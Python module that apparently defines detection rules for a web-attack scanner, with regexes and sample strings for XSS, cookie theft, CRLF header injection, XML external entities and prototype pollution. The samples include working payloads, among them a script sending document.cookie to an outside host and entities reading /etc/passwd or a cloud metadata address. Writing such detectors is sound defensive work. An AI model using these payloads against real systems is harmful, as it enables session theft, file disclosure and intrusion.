"""Scripts for somebody else's browser, headers that end too early, entities that read files."""

from firebreak.detect.payload.form import payload
from firebreak.model.finding import Severity

_RUN = r"(?:alert|prompt|confirm|eval|fetch|import|print)\s{0,2}(?:\(|`|&#40;|&lpar;)"

RULES = (
    payload(
        "xss-script",
        rf"<script[^>\n]{{0,60}}>\s{{0,9}}(?:/[/*][^\n]{{0,40}})?(?:{_RUN}|(?:document|window|top|self)\[|\[\]\[)"
        rf"|<script[^>\n]{{0,60}}>"
        r"[^<\n]{0,120}(?:alert\s?\(\s?(?:1|document\.|['\"`/]?xss)|string\.fromcharcode\s?\(\s?\d)",
        "Script element that only shows that it runs",
        ("<script>alert(1)</script>", "<script>x=1;alert('XSS')</script>", "<SCRIPT>eval(name)</SCRIPT>"),
        ("<script src='app.js'></script>", "<script>\nconst x = load();\n</script>", "<script>init();</script>"),
        score=0.75,
        trigger="<script",
    ),
    payload(
        "xss-cookie",
        r"<script[^>\n]{0,60}>[^<]{0,300}document\.cookie|\bon\w{3,20}\s?=\s?[\"'`]?[^\"'`>\n]{0,80}document\.cookie",
        "Script in a page that reads the cookies",
        ("<script>new Image().src='//e.io/?'+document.cookie</script>", "<img src=x onerror=send(document.cookie)>"),
        ("document.cookie = 'a=b';", "<script>start()</script>"),
        score=0.6,
        severity=Severity.MEDIUM,
        trigger=r"document\.cookie",
    ),
    payload(
        "xss-handler",
        (
            r"<[a-z!?][^>\n]{0,200}[\s/\"']on(?:error|load|toggle|begin|end|start|focus|focusin|pageshow|mouseover"
            r"|mouseenter|pointer\w{2,9}"
            rf"|animation\w{{3,9}}|transition\w{{3,9}}|hashchange|resize|scroll\w{{0,3}}|wheel|copy|cut"
            rf"|paste)\s{{0,3}}=\s{{0,3}}[\"'`]?\s{{0,3}}"
            rf"(?:javascript:)?(?:{_RUN}|(?:window|top|self|parent)\[|\w{{1,8}}=[^\s]{{0,20}}alert)"
        ),
        "Element whose event runs a script",
        ("<img src=x onerror=alert(1)>", '<svg/onload="fetch(`//e.io`)">', "<details open ontoggle=prompt`1`>"),
        ('<img src="a.png" onerror="this.src=\'b.png\'">', '<button onclick="alert(1)">', "<body onload=init()>"),
        score=0.75,
        trigger=(
            r"[\s/\"']on\w+\s*=\s*[\"'`]?\s*(?:javascript:)?(?:alert|prompt|confirm|eval|fetch|import|print|window"
            r"|top|self|parent|\w+=)"
        ),
    ),
    payload(
        "header-injection",
        (
            r"(?:%0d%0a|%0a%0d|%e5%98%8a%e5%98%8d|%0a(?:%20|%09)?)\s?(?:set-cookie|location|content-(?:length|type)"
            r"|http/1|x-[a-z-]{2,30}|host|refresh"
            r"|transfer-encoding|bcc|to)(?::|%3a)|%0d%0a%0d%0a(?:%3c|<|http)"
        ),
        "Line break inside a value that begins a header of its own",
        ("/?u=x%0d%0aSet-Cookie:%20a=b", "lang=en%0D%0A%0D%0A<html>", "name=x%0Abcc:a@b.example"),
        ("text%0d%0amore text", "Set-Cookie: a=b"),
        score=0.8,
    ),
    payload(
        "xml-external-entity",
        (
            r"<!entity\s{1,4}(?:%\s{1,4}|&#37;\s{0,3})?[\w.-]{1,60}\s{1,4}(?:system"
            r"|public\s{1,4}[\"'][^\"'\n]{0,80}[\"'])\s{1,4}[\"']"
            r"(?:file|php|expect|gopher|jar|netdoc|ftp|https?://(?:\d|localhost|169\.|\[)|https?:[^\"'\n]{0,120}\.dtd)"
            r"|<!entity\s{1,4}[\w.-]{1,60}\s{1,4}[\"'](?:&[\w.-]{1,60};\s?){5,}"
            r"|<xi:include[^>\n]{0,80}href\s?=\s?[\"']file:"
        ),
        "XML entity that reads a file or grows without end",
        (
            '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">',
            '<!ENTITY % r SYSTEM "http://169.254.169.254/x">',
        ),
        ('<!ENTITY chapter1 SYSTEM "chapter1.xml">', '<!ENTITY copy "&#169;">'),
        score=0.85,
        trigger=r"<!entity\s|<xi:include",
    ),
    payload(
        "prototype-pollution",
        (
            r"[\"']__proto__[\"']\s{0,3}:\s{0,3}\{|\[?__proto__\]?\[[\w\"']{1,40}\]\s{0,3}=|constructor(?:\[|%5b"
            r"|\.)[\"']?prototype[\"']?(?:\]|%5d)?"
            r"(?:\[|%5b)|[\"']constructor[\"']\s{0,3}:\s{0,3}\{\s{0,3}[\"']prototype[\"']"
        ),
        "Property that changes every object of a program",
        ('{"__proto__": {"admin": true}}', "?__proto__[admin]=1", '{"constructor": {"prototype": {"x": 1}}}'),
        ("Object.getPrototypeOf(x)", "x.constructor.prototype.name"),
        score=0.65,
        severity=Severity.MEDIUM,
        trigger=r"__proto__|constructor(?:\[|%5b|\.)[\"']?prototype[\"'\[\]%]|[\"']constructor[\"']\s*:",
    ),
)
